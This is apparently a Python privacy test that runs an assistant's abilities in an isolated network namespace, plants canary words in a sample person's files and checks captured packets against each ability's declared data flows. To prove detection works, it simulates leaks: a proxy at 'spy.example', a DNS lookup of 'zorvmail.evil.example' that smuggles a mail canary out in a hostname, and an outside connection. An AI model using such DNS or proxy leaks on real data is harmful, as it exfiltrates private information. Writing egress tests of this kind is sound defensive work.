"""A whole morning in a namespace of its own: every shipped ability for the sample person, over services and a model of the network, with a
canary in each family and every packet seen: morning.py LUCID. What leaves may only be what the card of the ability names.
"""
import datetime
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import sys

import open_meteo
import stand_ins
from home import Home, check
from namespace import Names, Packets, enter

lucid = os.path.abspath(sys.argv[1])
MOMENT = "2026-04-06T07:30"
ADDRESS = "10.20.30.40"
HOSTS = {
    "weather": ["forecast.lan", "cities.lan"], "travel": ["router.lan", "places.lan"], "web": ["words.lan", "any public host"],
    "feeds": ["town.lan"],
}
MODEL, TOPIC = "model.lan", "topic.lan"
SERVICES = """backends:
  weather: { open_meteo: "http://forecast.lan/v1/forecast", search: "http://cities.lan/v1/search" }
  travel: { valhalla: "http://router.lan", geocode: { nominatim: "http://places.lan/places" }, from: "60.17, 24.94" }
  web: { searxng: "http://words.lan/words", fetch: on }
  feeds: { town: "http://town.lan/feed" }
models: { default: far, far: { openai: "http://model.lan/model/v1", model: small } }
deliver: { ntfy: { url: "https://topic.lan/topic" } }
"""
PERSON = """vault: ~/vault
user: { name: Zorvname Roy, city: Zorvcity, region: CA, timezone: America/Toronto, language: en, office: "1 Zorvoffice, Montreal" }
"""
# A word for each family that stands nowhere else; for health the steps of the day.
CANARIES = {
    "calendar": "Zorvevent", "mail": "Zorvmail", "notes": "Zorvnote", "contacts": "Zorvcontact", "habits": "Zorvhabit", "tasks": "Zorvtask",
    "reminders": "Zorvreminder", "health": "1240 steps", "city": "Zorvcity", "office": "Zorvoffice", "name": "Zorvname",
}
# What the configuration says of the person, and to whom a source tells it without being given it.
SETTINGS = {"city": {"weather"}, "office": {"travel"}, "name": set()}


def plant(vault):
    """Puts the canaries into the files of the sample person."""
    def each(pattern, *changes):
        files = sorted(vault.glob(pattern))
        check(files, f"the sample person has no {pattern}")
        for file in files:
            text = file.read_bytes().decode()
            for old, new in changes:
                text = re.sub(old, new, text, flags=re.MULTILINE)
            file.write_bytes(text.encode())

    each("calendar/*/*.ics", (r"^(SUMMARY:[^\r\n]*)", r"\1 Zorvevent"))
    each("tasks/*.ics", (r"^(SUMMARY:[^\r\n]*)", r"\1 Zorvtask"))
    each("reminders/*.ics", (r"^(SUMMARY:[^\r\n]*)", r"\1 Zorvreminder"))
    each("mail/*/*", (r"^(Subject:[^\r\n]*)", r"\1 Zorvmail"))
    each("contacts/*.vcf", (r"^(ORG:[^\r\n;]*)", r"\1 Zorvcontact"))
    each("habits/habits.json", (r'("name": "[^"]*)"', r'\1 Zorvhabit"'))
    for file in vault.glob("notes/*.md"):
        text = file.read_text()
        file.write_text(text + "\n- [ ] Zorvnote\n")


class Server(stand_ins.ThreadingHTTPServer):
    def server_bind(self):
        # IP_FREEBIND: no interface has the address.
        self.socket.setsockopt(socket.SOL_IP, 15, 1)
        super().server_bind()


def abilities():
    """The names of all shipped abilities, with what those that ask are answered."""
    names = sorted(p.stem for p in pathlib.Path("abilities/defaults").glob("*.lucidability"))
    names += ["gallery/" + p.stem for p in sorted(pathlib.Path("abilities/gallery").rglob("*.lucidability")) if p.stem not in names]
    return names


class Morning:
    def __init__(self, configuration, **variables):
        self.home = Home(lucid, PERSON + configuration)
        self.home.variables = variables
        vault = self.home.path / "vault"
        shutil.copytree(".lucidability-samples/robin/vault", vault)
        plant(vault)

    def card(self, name):
        plan = self.home.json("plan", "--json", name)
        return plan["capabilities"], plan

    def run(self, name, *words):
        """The exit code, what was said, and the packets."""
        packets.take()
        if server:
            server.take()
        inputs = []
        for given in self.card(name)[1]["inputs"]:
            if given.get("required") or given.get("default") is None:
                inputs += ["--input", f"{given['name']}={INPUTS.get(given['name'], 'tomorrow at 9am')}"]
        code, text = self.home.result("run", "--approve", "--at", MOMENT, name, *inputs, *words)
        return code, text, packets.take()


INPUTS = {"person": "Sarah", "entries": "Water Zorvhabit +2"}
# What no shipped ability does: all other families, and data of one in questions to services.
WHOLE = """lucidability: 1
kind: ability
label: Whole
steps:
  - id: next
    calendar.next: {}
  - id: found
    web.search: { query: "<<next.title>> Montreal" }
  - id: way
    travel.to: { destination: "<<next.title>>" }
  - id: there
    weather.now: { place: Helsinki }
  - id: news
    feeds.items: {}
  - id: tasks
    tasks.list: {}
  - id: reminders
    reminders.list: {}
prompt: |
  For <<name>>: <<next.title>>, <<found.items | map(title)>>, <<way.minutes>>, <<there.temp_c>>, <<news.items | map(title)>>,
  <<tasks.items | map(title)>>, <<reminders.items | map(title)>>
"""


def violations(card, met, names, requests, others=()):
    """What left without being on the card: hosts that were asked for or connected to, and canaries by host."""
    hosts = {host for access in card["reads"] for host in access.get("hosts", [])} | {MODEL} | set(others)
    problems = [f"asked the name server for {name}" for name in names if name not in hosts]
    problems += [f"connected to {to} port {port}" for to, port in met if (to, port) != (ADDRESS, 80)]
    told = {frozenset(flow["from"]): flow for flow in card["flows"]}
    for method, host, target, body in requests:
        host = host.split(":")[0]
        if host not in hosts:
            problems.append(f"{method} {host}{target}")
        for family, word in CANARIES.items():
            if word.lower() not in (target + body).lower():
                continue
            sources = {source for source, own in HOSTS.items() if host in own}
            if family in SETTINGS:
                may = host == MODEL or sources & SETTINGS[family]
            else:
                to_model = any(family in flow["from"] for flow in card["flows"] if flow["to"] == "models elsewhere")
                may = host == MODEL and to_model or any(
                    family in flow["from"] and host in flow.get("hosts", []) for flow in card["flows"])
            if not may:
                problems.append(f"{word} to {host}: {target} {body[:200]}")
    return problems, told


def canaries(packets_of_run, requests):
    """The canaries that are in packets, by name, and those that the server read: they must be the same."""
    raw = b"\n".join(payload for _, _, _, payload in packets_of_run).lower()
    return {name for name, word in CANARIES.items() if word.lower().encode() in raw}, {
        name for name, word in CANARIES.items() if any(word.lower() in (t + b).lower() for _, _, t, b in requests)}


enter()
names = Names(default=[ADDRESS])
packets = Packets()
server = None
rows, seen, hosts_met = [], set(), set()

# With no service, no model and no topic: not one packet.
quiet = Morning("")
names_of_all = abilities()
for name in names_of_all:
    code, text, left = quiet.run(name)
    check(code in (0, 10, 11, 30), f"{name}: {code}\n{text}")
    check(not left, f"{name} sent {left[:3]} without a service in the configuration\n{text}")

open_meteo.moment = datetime.datetime.fromisoformat(MOMENT + "-04:00").astimezone(datetime.timezone.utc)
open_meteo.PLACES.append({"id": 9, "name": "Zorvcity", "latitude": 45.51, "longitude": -73.59, "country_code": "CA", "population": 5})
server = stand_ins.StandIns(ADDRESS, 80, Server)
# Servers of Python look for their own name.
packets.take()
morning = Morning(SERVICES)
for name in [*names_of_all, morning.home.ability("whole", WHOLE)]:
    card, plan = morning.card(name)
    check(not packets.take(), f"{name}: showing its plan sent something")
    # Nothing of an earlier ability answers for this one.
    shutil.rmtree(morning.home.path / ".cache/lucid/responses", ignore_errors=True)
    code, text, left = morning.run(name)
    requests = server.take()
    check(code in (0, 10, 11), f"{name}: {code}\n{text}")
    named = sorted({host for access in card["reads"] for host in access.get("hosts", [])})
    asked = sorted(set(packets.names(left)))
    problems, _ = violations(card, packets.connections(left), packets.names(left), requests)
    raw, read = canaries(left, requests)
    if raw != read:
        problems.append(f"canaries {sorted(raw - read)} in packets that no server read")
    check(not problems, f"{name}: not on its card:\n  " + "\n  ".join(problems) + f"\n{json.dumps(card, indent=1)}\n{text}")
    if name.endswith("whole.lucidability"):
        check("calendar" in raw and any(h.startswith("words.lan") and "Zorvevent" in t for _, h, t, _ in requests), f"{requests}")
        check(any("Zorvevent to words.lan" in p for p in violations(weather, [], [], requests)[0]), "a card that names no flow was enough")
    if name == "weather":
        weather = card
    rows.append((name.rsplit("/", 1)[-1], " ".join(named) or "-", " ".join(asked) or "-", " ".join(sorted(raw)) or "-"))
    seen |= raw
    hosts_met |= set(asked)

wide = max(len(row[0]) for row in rows)
print(f"{'ability':{wide}}  hosts on the card; names that were asked for; canaries that left")
for row in rows:
    print(f"{row[0]:{wide}}  {row[1]}; {row[2]}; {row[3]}")
check(seen == set(CANARIES), f"canaries that never left, so that nothing is known of them: {set(CANARIES) - seen}")
check({"forecast.lan", "router.lan", MODEL} <= hosts_met, f"hosts that were never asked: {hosts_met}")

# The check can fail: a proxy of the environment is on no card, and a look-up alone tells.
spied = Morning(SERVICES, http_proxy="http://spy.example:80")
card, _ = spied.card("weather")
server.take()
code, text, left = spied.run("weather")
problems, _ = violations(card, packets.connections(left), packets.names(left), server.take())
check("asked the name server for spy.example" in problems, f"a proxy was not noticed: {problems}\n{text}")
packets.take()
subprocess.run([sys.executable, "-c", "import socket; socket.getaddrinfo('zorvmail.evil.example', 80)"], check=True)
left = packets.take()
problems, _ = violations(card, packets.connections(left), packets.names(left), [])
check(problems and canaries(left, [])[0] == {"mail"}, f"a look-up was not noticed: {problems}")
subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('198.41.0.4', 80), 1)"], check=False, stderr=subprocess.DEVNULL)
left = packets.take()
problems, _ = violations(card, packets.connections(left), packets.names(left), [])
check("connected to 198.41.0.4 port 80" in problems, f"a connection was not noticed: {problems}")
print(f"A morning of {len(rows)} abilities: nothing left that its card does not name; without services, not one packet.")
